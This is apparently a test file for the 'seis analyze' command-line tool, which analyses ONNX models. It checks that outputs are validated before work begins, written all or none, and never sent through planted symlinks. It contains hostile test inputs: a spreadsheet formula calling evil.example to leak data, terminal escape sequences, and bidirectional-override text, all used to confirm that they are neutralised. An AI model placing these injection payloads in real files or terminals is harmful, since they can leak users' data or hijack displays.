// `seis analyze` against careless and hostile input: outputs checked before any work and written
// all or none, never over an input or through a planted link; names from the model cannot inject
// spreadsheet formulas or terminal escapes; user errors exit 2; interruptions tell the truth.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { onnx } from 'onnx-proto';
import { main } from '../../../src/cli/main';
import { CLS_MODEL, convModel, tempDir } from '../analysis/modelFactory';

const ROOT = join(__dirname, '..', '..', '..');
const BIN = join(ROOT, 'bin', 'seis.js');
const QUICK = ['--probes', '6', '--size', '16', '--transforms', 'rot90', '--null-perms', '1', '--quiet'];

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

async function seis(...args: string[]): Promise<Run> {
  const sink = () => {
    const chunks: string[] = [];
    return { stream: new Writable({ write: (c, _e, done) => (chunks.push(String(c)), done()) }), text: () => chunks.join('') };
  };
  const out = sink();
  const err = sink();
  const code = await main(args, { stdout: out.stream, stderr: err.stream });
  return { code, stdout: out.text(), stderr: err.text() };
}

function usageError(run: Run, pattern: RegExp): void {
  assert.equal(run.code, 2, `exit 2, got ${run.code}: ${run.stderr}`);
  assert.match(run.stderr, pattern);
  assert.doesNotMatch(run.stderr, /internal error|please report|%/, 'refused before any work, as a usage error');
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")';
const ESCAPES = '\x1b]0;pwned\x07\x1b[2J\x9b31m';

/** The factory's conv model with its two first intermediate tensors renamed to hostile names. */
function hostileModel(dir: string): string {
  const decoded = onnx.ModelProto.decode(convModel());
  const rename: Record<string, string> = { c1: HYPERLINK, r1: ESCAPES };
  for (const n of (decoded.graph as onnx.GraphProto).node) {
    n.input = (n.input ?? []).map((i) => rename[i] ?? i);
    n.output = (n.output ?? []).map((o) => rename[o] ?? o);
  }
  const path = join(dir, 'hostile.onnx');
  writeFileSync(path, onnx.ModelProto.encode(decoded).finish());
  return path;
}

function plainModel(dir: string): string {
  const path = join(dir, 'model.onnx');
  writeFileSync(path, convModel());
  return path;
}

describe('seis analyze: outputs are checked before the run and written all or none', () => {
  it('an unwritable --html refuses at once and leaves an existing --json untouched', async () => {
    const dir = tempDir('seis-cli-');
    const keep = join(dir, 'keep.json');
    writeFileSync(keep, '{"precious": true}\n');
    usageError(await seis('analyze', plainModel(dir), '--json', keep, '--html', '/proc/x.html', ...QUICK), /--html \/proc\/x\.html: cannot create files in \/proc/);
    assert.equal(readFileSync(keep, 'utf8'), '{"precious": true}\n');
    usageError(await seis('analyze', plainModel(dir), '--csv', join(dir, 'missing', 'x.csv')), /--csv .*missing\/x\.csv: folder .*missing does not exist; create it first/);
    usageError(await seis('analyze', plainModel(dir), '--json', dir), /--json .* is a folder; give a file name/);
    usageError(await seis('analyze', plainModel(dir), '--csv', '/dev/null'), /--csv \/dev\/null is a device or special file/);
  });

  it('an output naming the model (directly or through a link), the --inputs file or another output is refused', async () => {
    const dir = tempDir('seis-cli-');
    const model = plainModel(dir);
    const before = readFileSync(model);
    usageError(await seis('analyze', model, '--json', model), /--json .*model\.onnx is the input MODEL\.onnx itself; writing it would replace it/);
    symlinkSync(model, join(dir, 'alias.json'));
    usageError(await seis('analyze', model, '--json', join(dir, 'alias.json')), /is the input MODEL\.onnx itself/);
    writeFileSync(join(dir, 'probes.npy'), 'x');
    usageError(await seis('analyze', model, '--inputs', join(dir, 'probes.npy'), '--csv', join(dir, 'probes.npy')), /--csv .*probes\.npy is the input --inputs itself/);
    usageError(await seis('analyze', model, '--json', join(dir, 'f'), '--csv', join(dir, '.', 'f')), /--csv .*f is also given to --json; one would overwrite the other/);
    assert.deepEqual(readFileSync(model), before, 'the model is intact');
  });

  it('writes through no link planted at the old predictable temp name, and leaves no temp file', async () => {
    const dir = tempDir('seis-cli-');
    const victim = join(dir, 'victim.txt');
    writeFileSync(victim, 'precious');
    symlinkSync(victim, join(dir, `.out.json.${process.pid}.tmp`));
    symlinkSync(victim, join(dir, `.out.csv.${process.pid}.tmp`));
    const run = await seis('analyze', plainModel(dir), '--json', join(dir, 'out.json'), '--csv', join(dir, 'out.csv'), ...QUICK);
    assert.equal(run.code, 0, run.stderr);
    assert.equal(readFileSync(victim, 'utf8'), 'precious');
    assert.equal(JSON.parse(readFileSync(join(dir, 'out.json'), 'utf8')).model.fileName, 'model.onnx');
    assert.match(readFileSync(join(dir, 'out.csv'), 'utf8'), /^model,layer,node,op,/, 'the one CSV header (src/shared/csv.ts)');
    const ours = readdirSync(dir).filter((n) => n.endsWith('.tmp') && !n.endsWith(`.${process.pid}.tmp`));
    assert.deepEqual(ours, []);
  });
});

describe('seis analyze: names from the model are inert', () => {
  it('CSV cells are defused and the summary table prints control characters escaped', async () => {
    const dir = tempDir('seis-cli-');
    const model = hostileModel(dir);
    const csvRun = await seis('analyze', model, '--csv', join(dir, 'out.csv'), '--layers', 'all', ...QUICK);
    assert.equal(csvRun.code, 0, csvRun.stderr);
    const csv = readFileSync(join(dir, 'out.csv'), 'utf8');
    assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?leak"",""click"")"`), 'the formula is quoted and prefixed with an apostrophe');
    for (const cell of csv.split(/[,\r\n]/)) assert.doesNotMatch(cell, /^"?[=+@\t\r]/, `no cell starts a formula: ${cell}`);

    const table = await seis('analyze', model, '--layers', 'all', ...QUICK);
    assert.equal(table.code, 0, table.stderr);
    assert.match(table.stdout, /NK\("http:\/\/evil\.example\/\?leak","click"\)  Conv/, 'the layer is listed (long names keep their end)');
    assert.doesNotMatch(table.stdout + table.stderr, /[\x00-\x08\x0b-\x1f\x7f-\x9f]/, 'no raw control character reaches the terminal');
    assert.ok(table.stdout.includes('\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m'), 'the escape sequence is shown, escaped');
  });

  it('an unknown command echoed back is escaped too, bidirectional overrides included', async () => {
    const run = await seis('\x1b[2J\u202eevil');
    assert.equal(run.code, 2);
    assert.match(run.stderr, /unknown command '\\x1b\[2J\\u202eevil'/);
  });
});

describe('seis analyze: the progress bar', () => {
  it('shows the time left once the first layers are scored', async () => {
    const chunks: string[] = [];
    const tty = Object.assign(new Writable({ write: (c, _e, done) => (chunks.push(String(c)), done()) }), { isTTY: true, columns: 200 });
    const sink = new Writable({ write: (_c, _e, done) => done() });
    const code = await main(['analyze', CLS_MODEL, '--size', '48x192', '--normalize', 'symmetric', '--probes', '16', '--transforms', 'rot180,flip-h', '--null-perms', '1'], { stdout: sink, stderr: tty });
    assert.equal(code, 0, chunks.join(''));
    const frames = chunks.join('').split('\r');
    assert.ok(frames.some((f) => /\] +\d+% .*\(about \d+ (s|min) left\)/.test(f)), frames.slice(-5).join('\n'));
  });
});

describe('seis analyze: user errors exit 2 before any work', () => {
  it('overflowing transform parameters, an unknown --ep and --dump-activations onto a file', async () => {
    const dir = tempDir('seis-cli-');
    const model = plainModel(dir);
    usageError(await seis('analyze', model, '--transforms', `rot${'9'.repeat(400)}`), /transform 'rot9{37}…': the number 9{12}… \(400 digits\) is out of range/);
    usageError(await seis('analyze', model, '--transforms', `shift-x1e999`), /unknown transform|out of range/);
    usageError(await seis('analyze', model, '--ep', 'nope'), /--ep must be one of cpu\|.*got 'nope'/);
    const file = join(dir, 'taken.txt');
    writeFileSync(file, 'x');
    usageError(await seis('analyze', model, '--dump-activations', file), /--dump-activations .*taken\.txt is a file, not a folder/);
    usageError(await seis('analyze', model, '--dump-activations', join(file, 'sub')), /taken\.txt is a file, so the folder cannot be created/);
    assert.equal(readFileSync(file, 'utf8'), 'x');
  });

  it('--null-perms 0 reads no-null, never "above its null" (seis analyze and seis score)', async () => {
    const dir = tempDir('seis-cli-');
    const run = await seis('analyze', plainModel(dir), '--probes', '24', '--size', '8', '--transforms', 'rot90', '--null-perms', '0', '--quiet');
    assert.equal(run.code, 0, run.stderr);
    const rows = run.stdout.split('\n').filter((l) => /^c[12] /.test(l));
    assert.equal(rows.length, 2, run.stdout);
    for (const row of rows) assert.match(row, /no null/);
    assert.doesNotMatch(run.stdout, /re-encoded |invariant |lost /);
    const ref = join(ROOT, 'test', 'fixtures', 'reference');
    const score = await seis('score', join(ref, 'rot90_noisy.clean.npy'), join(ref, 'rot90_noisy.transformed.npy'), '--null-perms', '0', '--backend', 'js');
    assert.equal(score.code, 0, score.stderr);
    assert.match(score.stdout, /reading\s+no-null: no null was computed/);
    assert.doesNotMatch(score.stdout, /above its null/);
  });
});

describe('seis analyze: an interrupted run with --dump-activations says what it left', () => {
  it('SIGINT after dumps were written reports them instead of "no output written"', async () => {
    const dir = tempDir('seis-cli-');
    const dump = join(dir, 'dump');
    const child = spawn(process.execPath, [BIN, 'analyze', plainModel(dir), '--dump-activations', dump, '--probes', '48', '--size', '48', '--layers', 'all', '--transforms', 'rot90,rot180,rot270,flip-h,flip-v,rot30,rot45,rot60,shift-x3,scale1.2', '--null-perms', '40', '--quiet'], {
      cwd: ROOT,
      env: { ...process.env, SEIS_CLI_SOURCE: '1' },
    });
    let stderr = '';
    child.stderr.on('data', (c) => (stderr += String(c)));
    const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
    const deadline = Date.now() + 60_000;
    while (!(existsSync(dump) && readdirSync(dump).some((n) => n.endsWith('.npy'))) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    child.kill('SIGINT');
    const code = await exited;
    assert.equal(code, 130, `interrupted exit code; stderr: ${stderr}`);
    assert.match(stderr, /interrupted; \d+ activation files? already written to .*dump \(an incomplete set\); no other output written/);
    assert.doesNotMatch(stderr, /interrupted; no output written/);
  });
});
